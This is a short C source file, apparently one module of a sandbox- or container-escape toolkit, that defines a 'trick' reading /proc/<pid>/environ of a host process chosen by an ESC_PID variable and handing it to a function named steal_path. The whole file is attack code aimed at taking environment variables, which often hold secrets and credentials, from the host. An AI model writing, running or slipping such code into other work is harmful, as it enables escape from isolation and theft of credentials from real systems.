/* Reads the environment of a process of the host. */
#include "../escape.h"

TRICK(proc_environment) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/environ", told("ESC_PID"));
    return steal_path(path);
}
